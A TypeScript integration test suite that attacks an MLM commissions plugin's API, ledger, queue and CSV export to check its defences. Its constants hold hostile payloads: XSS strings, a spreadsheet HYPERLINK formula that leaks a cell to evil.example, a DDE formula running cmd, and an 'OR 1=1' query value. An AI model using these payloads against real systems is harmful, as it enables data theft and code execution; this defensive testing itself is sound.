// The plugin's queue runs on the machine's real Redis, under a prefix of its own per run.
process.env.MLM_REDIS_URL = process.env.MLM_REDIS_URL || "redis://127.0.0.1:6379"
process.env.MLM_QUEUE_PREFIX = `mlm-attacks-${process.pid}-${Date.now()}`

import { medusaIntegrationTestRunner } from "@medusajs/test-utils"
import type { MedusaContainer } from "@medusajs/framework/types"
import type { AxiosInstance, AxiosResponse } from "axios"
import { simulate } from "../../src/engine"
import { SECURITY_HEADERS } from "../../src/api/security/security-headers"
import type { CommissionGateway } from "../../src/modules/mlm/commissions/gateway"
import type { OrderJob } from "../../src/modules/mlm/commissions/jobs"
import type { DistributorDTO } from "../../src/modules/mlm"
import { createAdminCaller, createCallerWithRole, type AdminCaller } from "../helpers/admin-auth"
import { getText, parseCsv } from "../helpers/csv"
import { activatePlanForTest, eventually } from "../helpers/commissions"
import { registerCustomer, type CustomerCaller } from "../helpers/customer-auth"
import { httpClient, type CallerHeaders, type HttpClient } from "../helpers/http"
import { ADMIN_MFA, verifyChallenge } from "../helpers/mfa"
import { buildTree, createCustomers, mlmOf } from "../helpers/mlm-tree"
import { createStoreFixture } from "../helpers/store-fixture"

jest.setTimeout(300_000)

/**
 * Attack suite, part of issue #5 (docs/security.md): script payloads in names and free text,
 * formula injection through the ledger CSV, malformed amounts in every money-carrying body,
 * ledger tampering in SQL, a sponsor cycle through concurrent moves, and one order delivered ten
 * times. Each attack asserts the status, the message and that nothing changed.
 */
const PLAN = { currency: "EUR", components: [{ type: "unilevel", levels_bp: [1000, 500] }] }
const SCRIPT = "<script>alert(1)</script>"
const IMG = '"><img src=x onerror=alert(1)>'
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Refund")'
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
const CYCLE = (moved: string, sponsor: string) => `Moving ${moved} under ${sponsor} would create a cycle: the new sponsor is in its own downline`

/** Every plugin table as row count + md5 of its rows (audit rows are checked on their own). */
async function snapshot(gateway: CommissionGateway): Promise<Record<string, string>> {
  const tables = await gateway.db.exec<{ name: string }>(
    `SELECT table_name AS name FROM information_schema.tables WHERE table_schema = current_schema() AND table_name LIKE 'mlm\\_%' AND table_name <> 'mlm_audit_log' ORDER BY 1`,
  )
  const out: Record<string, string> = {}
  for (const { name } of tables) {
    const [row] = await gateway.db.exec<{ print: string }>(`SELECT count(*) || ':' || coalesce(md5(string_agg(t::text, '|' ORDER BY t::text)), '-') AS print FROM ${name} t`)
    out[name] = row.print
  }
  return out
}

async function lastAuditSeq(gateway: CommissionGateway): Promise<number> {
  const [row] = await gateway.db.exec<{ seq: string | null }>(`SELECT max(seq)::text AS seq FROM mlm_audit_log`)
  return Number(row.seq ?? 0)
}

/** A body sent as raw JSON text: `1e309` and 2^53 + 1 reach the server as written. */
function postRaw(api: AxiosInstance, url: string, json: string, headers: CallerHeaders): Promise<AxiosResponse> {
  return api.post(url, json, { headers: { ...headers, "content-type": "application/json" }, transformRequest: [(data) => data], validateStatus: () => true })
}

function expectSecurityHeaders(response: AxiosResponse): void {
  for (const [name, value] of Object.entries(SECURITY_HEADERS)) expect([name, response.headers[name.toLowerCase()]]).toEqual([name, value])
  expect(response.headers["x-powered-by"]).toBeUndefined()
}

medusaIntegrationTestRunner({
  testSuite: ({ api, getContainer }) => {
    let container: MedusaContainer
    let http: HttpClient
    let gateway: CommissionGateway
    let admin: AdminCaller
    let sponsorLogin: CustomerCaller
    let payees: Record<"formula" | "xss" | "buyer", DistributorDTO>
    let buyerCustomerId: string
    let siblings: Record<"a" | "b", DistributorDTO>
    let storeHeaders: CallerHeaders

    beforeAll(async () => {
      container = getContainer()
      http = httpClient(api)
      const store = await createStoreFixture(container)
      storeHeaders = store.storeHeaders
      gateway = await mlmOf(container).commissions()
      admin = await createAdminCaller(container, http)
      await activatePlanForTest(container, PLAN)
      const mlm = mlmOf(container)
      const house = await mlm.ensureHouse()
      // formula (a logged-in distributor named with a formula) → xss (script payloads) → buyer.
      sponsorLogin = await registerCustomer(http, store.storeHeaders, { email: "formula@attacks.test", first_name: FORMULA, last_name: DDE })
      const [xssCustomerId, buyerId] = await createCustomers(container, [
        { email: "xss@attacks.test", first_name: SCRIPT, last_name: IMG },
        { email: "buyer@attacks.test", first_name: "Bea" },
      ])
      buyerCustomerId = buyerId
      const formula = (await mlm.enroll({ customer_id: sponsorLogin.customerId, sponsor_id: house.id, source: "seed" })).distributor
      const xss = (await mlm.enroll({ customer_id: xssCustomerId, sponsor_id: formula.id, source: "seed" })).distributor
      const buyer = (await mlm.enroll({ customer_id: buyerId, sponsor_id: xss.id, source: "seed" })).distributor
      payees = { formula, xss, buyer }
      siblings = (await buildTree(container, { a: null, b: null })) as typeof siblings
    })

    const orderJob = (orderId: string, cvMinor: number): OrderJob => ({
      kind: "order",
      order_id: orderId,
      currency_code: "EUR",
      placed_at: new Date().toISOString(),
      customer_id: buyerCustomerId,
      distributor_id: payees.buyer.id,
      referrer_id: null,
      total_minor: cvMinor,
      items: [{ item_id: `item_${orderId}`, variant_id: null, quantity: 1, unit_price_minor: cvMinor, cv_minor: cvMinor }],
      retail_minor: null,
      wholesale_minor: null,
    })

    /** The engine's own lines for one order by the buyer, as (distributor, bonus, level, cents). */
    function engineLines(orderId: string, cvMinor: number) {
      const { lines } = simulate({
        plan: PLAN,
        members: [{ id: "formula" }, { id: "xss", sponsor: "formula" }, { id: "buyer", sponsor: "xss" }],
        events: [{ type: "order", id: orderId, buyer: "buyer", cv: cvMinor }],
      })
      return lines.map((line) => ({ distributor_id: payees[line.to as keyof typeof payees].id, bonus: line.bonus, level: line.level ?? 0, cents: line.cents }))
    }

    async function linesOf(orderId: string) {
      const { rows } = await gateway.listLines({ order_id: orderId, limit: 1000, offset: 0 })
      return rows
        .map((row) => ({ distributor_id: row.beneficiary_id, bonus: row.bonus, level: Number(row.level), cents: Number(row.amount_minor) }))
        .sort((x, y) => y.cents - x.cents)
    }

    async function queueIdle() {
      await eventually(() => gateway.status(), (status) => status.queue !== null && status.queue.waiting === 0 && status.queue.active === 0 && status.queue.delayed === 0)
    }

    it("one order delivered ten times at once through the module's gateway pays one set of lines", async () => {
      const job = orderJob("order_dup_attack", 10_000)
      const expected = engineLines("order_dup_attack", 10_000).sort((x, y) => y.cents - x.cents)
      expect(expected.map((line) => line.cents)).toEqual([1000, 500])
      await Promise.all(Array.from({ length: 10 }, () => gateway.enqueue([job])))
      await eventually(() => linesOf("order_dup_attack"), (lines) => lines.length >= 2)
      await queueIdle()
      await gateway.enqueue([job]) // and once more after it was processed
      await queueIdle()
      expect(await linesOf("order_dup_attack")).toEqual(expected)
      const [record] = await gateway.db.exec<{ n: string }>(`SELECT count(*) AS n FROM mlm_commission_record WHERE order_id = 'order_dup_attack'`)
      const [outbox] = await gateway.db.exec<{ n: string }>(`SELECT count(*) AS n FROM mlm_outbox WHERE job_key = 'order-order_dup_attack'`)
      expect([record.n, outbox.n]).toEqual(["1", "1"])
    })

    it("ledger tampering in SQL: UPDATE of an amount and DELETE are refused (55000), the line unchanged", async () => {
      // Medusa's runner restores the database before each test: this one writes its own lines.
      await gateway.enqueue([orderJob("order_tamper_attack", 10_000)])
      await eventually(() => linesOf("order_tamper_attack"), (lines) => lines.length === 2)
      const [line] = await gateway.db.exec<{ id: string }>(`SELECT id::text AS id FROM mlm_ledger_line WHERE order_id = $1 ORDER BY id LIMIT 1`, ["order_tamper_attack"])
      const before = await snapshot(gateway)
      const attempt = (sql: string) => gateway.db.exec(sql, [line.id]).then(() => null, (error: { code?: string; message: string }) => [error.code, error.message])
      expect(await attempt(`UPDATE mlm_ledger_line SET amount_minor = amount_minor * 100 WHERE id = $1`)).toEqual([
        "55000",
        expect.stringContaining("mlm_ledger_line: only the status of a line may change"),
      ])
      expect(await attempt(`UPDATE mlm_ledger_line SET beneficiary_node = 1 WHERE id = $1`)).toEqual(["55000", expect.stringContaining("only the status of a line may change")])
      expect(await attempt(`DELETE FROM mlm_ledger_line WHERE id = $1`)).toEqual(["55000", expect.stringContaining("mlm_ledger_line is append-only")])
      expect(await snapshot(gateway)).toEqual(before)
    })

    it("script payloads in names and free text come back as inert JSON, with nosniff and a CSP that runs nothing", async () => {
      const detail = await http.get(`/admin/mlm/distributors/${payees.xss.id}`, admin.headers)
      expect([detail.status, detail.data.distributor.customer.first_name, detail.data.distributor.customer.last_name]).toEqual([200, SCRIPT, IMG])
      expect(detail.headers["content-type"]).toBe("application/json; charset=utf-8")
      expectSecurityHeaders(detail)

      const search = await http.get(`/admin/mlm/distributors?q=${encodeURIComponent("<script>")}`, admin.headers)
      expect([search.status, search.data.distributors.map((d: { id: string }) => d.id)]).toEqual([200, [payees.xss.id]])
      expectSecurityHeaders(search)

      const suspended = await http.post(`/admin/mlm/distributors/${payees.buyer.id}/status`, { status: "suspended", reason: SCRIPT }, admin.headers)
      expect(suspended.status).toBe(200)
      expect((await http.post(`/admin/mlm/distributors/${payees.buyer.id}/status`, { status: "active", reason: IMG }, admin.headers)).status).toBe(200)
      const history = await http.get(`/admin/mlm/distributors/${payees.buyer.id}/history`, admin.headers)
      expect(history.data.status_changes.map((change: { reason: string }) => change.reason)).toEqual(expect.arrayContaining([SCRIPT, IMG]))
      expectSecurityHeaders(history)

      const downline = await http.get("/store/mlm/me/downline", sponsorLogin.headers)
      expect([downline.status, downline.data.downline?.[0]?.first_name ?? downline.data]).toEqual([200, SCRIPT])
      expect(downline.headers["content-type"]).toBe("application/json; charset=utf-8")
      expectSecurityHeaders(downline)

      const badCode = await http.post("/store/mlm/enroll", { referral_code: SCRIPT }, sponsorLogin.headers)
      expect([badCode.status, badCode.data.message]).toEqual([400, "Invalid request: referral_code must contain only letters, digits, '_' and '-'"])
      expectSecurityHeaders(badCode)
    })

    it("the headers are on refusals too (permission gate, MFA gate, validation), and only on the plugin's routes", async () => {
      const viewer = await createCallerWithRole(container, http, "viewer")
      const refused = await http.get("/admin/mlm/ledger", viewer.headers)
      expect([refused.status, refused.data.message]).toEqual([403, "Your MLM role (viewer) does not grant the permission money.read"])
      expectSecurityHeaders(refused)
      const noFactor = await registerCustomer(http, storeHeaders, { email: "nofactor@attacks.test", first_name: "N" }, { mfa: false })
      const mfaRefused = await http.get("/store/mlm/me", noFactor.headers)
      expect([mfaRefused.status, mfaRefused.data.message]).toEqual([403, "MFA is required: enroll a TOTP factor at /store/mlm/mfa/enroll"])
      expectSecurityHeaders(mfaRefused)
      const invalid = await http.get("/admin/mlm/ledger?limit=0", admin.headers)
      expect(invalid.status).toBe(400)
      expectSecurityHeaders(invalid)
      const medusaOwn = await http.get("/admin/regions", admin.headers)
      expect([medusaOwn.status, medusaOwn.headers["content-security-policy"]]).toEqual([200, undefined])
    })

    it("negative, NaN, Infinity, 1e309, beyond-2^53, over-precise and fractional amounts are 400s naming the field; nothing changes", async () => {
      const seq = await lastAuditSeq(gateway)
      const before = await snapshot(gateway)
      const values: [string, (field: string, min: number, max: number) => string][] = [
        ["-1", (f, min) => `Value for field '${f}' too small, expected at least: '${min}'`],
        ['"NaN"', (f) => `Expected type: 'number' for field '${f}', got: 'NaN'`],
        ['"Infinity"', (f) => `Expected type: 'number' for field '${f}', got: 'Infinity'`],
        ["1e309", (f) => `Expected type: 'number' for field '${f}', got: 'Infinity'`],
        ["9007199254740993", (f, _min, max) => `Value for field '${f}' too big, expected at most: '9007199254740991'; Value for field '${f}' too big, expected at most: '${max}'`],
        ["0.001", (f) => `Expected type: 'int' for field '${f}', got: '0.001'`],
        ["12.5", (f) => `Expected type: 'int' for field '${f}', got: '12.5'`],
      ]
      const bodies: [string, string, (v: string) => string, number, number][] = [
        ["/admin/mlm/commissions/order_dup_attack/adjustments", "refund_minor", (v) => `{"type":"refund","refund_minor":${v}}`, 1, 9007199254740991],
        ["/admin/mlm/variants/variant_attack/cv", "cv_minor", (v) => `{"cv_minor":${v},"currency_code":"EUR"}`, 0, 9007199254740991],
        ["/admin/mlm/variants/variant_attack/cv", "cv_bp", (v) => `{"cv_bp":${v}}`, 0, 10000],
      ]
      for (const [url, field, body, min, max] of bodies) {
        for (const [value, message] of values) {
          const response = await postRaw(api, url, body(value), admin.headers)
          expect([field, value, response.status, response.data.message]).toEqual([field, value, 400, `Invalid request: ${message(field, min, max)}`])
        }
      }
      expect(await snapshot(gateway)).toEqual(before)
      expect(await lastAuditSeq(gateway)).toBe(seq)
    })

    it("a plan draft with such rates is kept as a draft, but activation refuses it naming the path and writes no version", async () => {
      await verifyChallenge(http, ADMIN_MFA, admin.headers, admin.mfa!) // activation is a step-up action
      const rule = "plan.components[0].levels_bp[0]: must be an integer 0..10000"
      // Beyond 2^53 breaks both the integer and the range rule: the engine names the path for each.
      const issues: Record<string, string> = { "9007199254740993": `${rule}; ${rule}` }
      for (const value of ["-1", '"NaN"', "1e309", "9007199254740993", "0.001"]) {
        const created = await postRaw(api, "/admin/mlm/plans", `{"name":"attack","draft":{"currency":"EUR","components":[{"type":"unilevel","levels_bp":[${value}]}]}}`, admin.headers)
        expect([value, created.status, created.data.message]).toEqual([value, 201, undefined])
        const [versions] = await gateway.db.exec<{ n: string }>(`SELECT count(*) AS n FROM mlm_plan_version`)
        const activated = await http.post(`/admin/mlm/plans/${created.data.plan.id}/activate`, { effective_from: "2031-01-01T00:00:00Z" }, admin.headers)
        expect([value, activated.status, activated.data.message]).toEqual([value, 400, `The plan draft is invalid: ${issues[value] ?? rule}`])
        const [after] = await gateway.db.exec<{ n: string }>(`SELECT count(*) AS n FROM mlm_plan_version`)
        expect(after.n).toBe(versions.n)
      }
    })

    it("a sponsor cycle through concurrent opposite moves: each round one move wins, the other is a 409, the tree stays acyclic", async () => {
      const [{ n: movesBefore }] = await gateway.db.exec<{ n: string }>(`SELECT count(*) AS n FROM mlm_sponsor_move`)
      const house = await mlmOf(container).ensureHouse()
      const { a, b } = siblings
      const move = (who: DistributorDTO, under: DistributorDTO) =>
        http.post(`/admin/mlm/distributors/${who.id}/move`, { sponsor_id: under.id, reason: "cycle race" }, admin.headers)
      for (let round = 0; round < 10; round++) {
        const [aUnderB, bUnderA] = await Promise.all([move(a, b), move(b, a)])
        const outcome = [aUnderB.status, bUnderA.status]
        expect(outcome.sort()).toEqual([200, 409])
        const [moved, other] = aUnderB.status === 200 ? [a, b] : [b, a]
        expect((aUnderB.status === 409 ? aUnderB : bUnderA).data.message).toBe(CYCLE(other.id, moved.id))
        const [bad] = await gateway.db.exec<{ n: string }>(
          `SELECT count(*) AS n FROM mlm_distributor d LEFT JOIN mlm_distributor s ON s.id = d.sponsor_id
            WHERE d.path IS DISTINCT FROM CASE WHEN d.sponsor_id IS NULL THEN ARRAY[d.node_id] ELSE s.path || d.node_id END
               OR cardinality(d.path) <> (SELECT count(DISTINCT x) FROM unnest(d.path) x)`,
        )
        expect([round, bad.n]).toEqual([round, "0"])
        expect((await move(moved, house)).status).toBe(200)
      }
      const [{ n: movesAfter }] = await gateway.db.exec<{ n: string }>(`SELECT count(*) AS n FROM mlm_sponsor_move`)
      expect(Number(movesAfter) - Number(movesBefore)).toBe(20)
    })

    it("CSV export: names that are formulas are neutralised, script payloads stay text, negative amounts stay numbers; audited", async () => {
      const orderId = "order_csv_attack"
      await gateway.enqueue([orderJob(orderId, 10_000)])
      await eventually(() => linesOf(orderId), (lines) => lines.length === 2)
      const refund = await http.post(`/admin/mlm/commissions/${orderId}/adjustments`, { type: "refund", refund_minor: 2500, reason: SCRIPT }, admin.headers)
      expect(refund.status).toBe(201)
      const commission = await http.get(`/admin/mlm/commissions/${orderId}`, admin.headers)
      expect(commission.data.adjustments.map((adjustment: { reason: string }) => adjustment.reason)).toEqual([SCRIPT])

      const finance = await createCallerWithRole(container, http, "finance") // a fresh challenge: step-up holds
      const seq = await lastAuditSeq(gateway)
      const response = await getText(api, `/admin/mlm/ledger/export?order_id=${orderId}`, finance.headers)
      expect([response.status, response.headers["content-type"], response.headers["x-mlm-export-rows"]]).toEqual([200, "text/csv; charset=utf-8", "4"])
      expect(response.headers["content-disposition"]).toMatch(/^attachment; filename="mlm-ledger-[0-9TZ-]+\.csv"$/)
      expectSecurityHeaders(response)
      expect(response.data.startsWith("\uFEFF")).toBe(true)
      const [header, ...rows] = parseCsv(response.data.slice(1))
      expect(header).toEqual(["id", "created_at", "distributor_id", "referral_code", "first_name", "last_name", "source_kind", "source_id", "order_id",
        "bonus", "level", "amount_minor", "currency_code", "base_minor", "rate_bp", "plan_version_id", "status", "hold_until"])
      const view = rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]])))
      expect(view.map((row) => [row.distributor_id, row.first_name, row.last_name, row.source_kind, row.amount_minor])).toEqual([
        [payees.formula.id, `'${FORMULA}`, `'${DDE}`, "adjustment", "-125"],
        [payees.xss.id, SCRIPT, IMG, "adjustment", "-250"],
        [payees.formula.id, `'${FORMULA}`, `'${DDE}`, "order", "500"],
        [payees.xss.id, SCRIPT, IMG, "order", "1000"],
      ])
      expect(response.data).toContain(`"-125","EUR"`)
      expect(Number(view[0].id)).toBeGreaterThan(Number(view[3].id))

      const audit = await gateway.db.exec(`SELECT event, actor_id, target_type, outcome, after FROM mlm_audit_log WHERE seq > $1 ORDER BY seq`, [seq])
      expect(audit).toEqual([{
        event: "data_exported",
        actor_id: finance.userId,
        target_type: "ledger",
        outcome: "success",
        after: {
          format: "csv",
          filters: { distributor_id: null, order_id: orderId, status: null, bonus: null, period_key: null, from: null, to: null, before_id: null, limit: 10000 },
          rows: 4,
        },
      }])

      // Keyset continuation: the next file starts below the last id of the previous one.
      const first = parseCsv((await getText(api, `/admin/mlm/ledger/export?order_id=${orderId}&limit=1`, finance.headers)).data.slice(1))
      const next = parseCsv((await getText(api, `/admin/mlm/ledger/export?order_id=${orderId}&limit=2&before_id=${first[1][0]}`, finance.headers)).data.slice(1))
      expect([first.length, next.map((row) => row[0])]).toEqual([2, ["id", view[1].id, view[2].id]])
    })

    it("CSV export refuses a stale MFA challenge, roles without `exports` and bad queries, exporting and recording nothing", async () => {
      const finance = await createCallerWithRole(container, http, "finance")
      const support = await createCallerWithRole(container, http, "support")
      const seq = await lastAuditSeq(gateway)
      const denied = await getText(api, "/admin/mlm/ledger/export", support.headers)
      expect([denied.status, JSON.parse(denied.data).message]).toEqual([403, "Your MLM role (support) does not grant the permission exports"])
      for (const [query, message] of [
        ["limit=0", "Invalid request: Value for field 'limit' too small, expected at least: '1'"],
        ["limit=100001", "Invalid request: Value for field 'limit' too big, expected at most: '100000'"],
        ["before_id=1%20OR%201=1", "Invalid request: before_id must be a ledger line id (a positive integer)"],
        ["before_id=99999999999999999999", "Invalid request: before_id must be a ledger line id (a positive integer)"],
        ["status=paid", "Invalid request: Expected: 'pending, available, canceled' for field 'status', but got: 'paid'"],
        ["sort=amount_minor", "Invalid request: Unrecognized fields: 'sort'"],
      ]) {
        const response = await getText(api, `/admin/mlm/ledger/export?${query}`, finance.headers)
        expect([query, response.status, JSON.parse(response.data).message]).toEqual([query, 400, message])
      }
      // Step-up: the finance session's challenge, six minutes older.
      await gateway.db.exec(`UPDATE mlm_mfa_session SET completed_at = completed_at - interval '6 minutes' WHERE actor_id = $1`, [finance.userId])
      const stale = await getText(api, "/admin/mlm/ledger/export", finance.headers)
      expect([stale.status, JSON.parse(stale.data).message]).toEqual([403, "This action needs an MFA challenge completed in the last 5 minutes: verify again at /admin/mlm/mfa/verify"])
      // Each refusal is on the record; no export is.
      const events = await gateway.db.exec<{ event: string; actor_id: string; after: { reason?: string } }>(
        `SELECT event, actor_id, after FROM mlm_audit_log WHERE seq > $1 ORDER BY seq`,
        [seq],
      )
      expect(events.map((row) => [row.event, row.actor_id])).toEqual([
        ["authz_fail", support.userId],
        ["authn_mfa_required", finance.userId],
      ])
      expect(events[1].after.reason).toBe("challenge_too_old")
      await verifyChallenge(http, ADMIN_MFA, finance.headers, finance.mfa!)
      expect((await getText(api, "/admin/mlm/ledger/export?limit=1", finance.headers)).status).toBe(200)
    })
  },
})
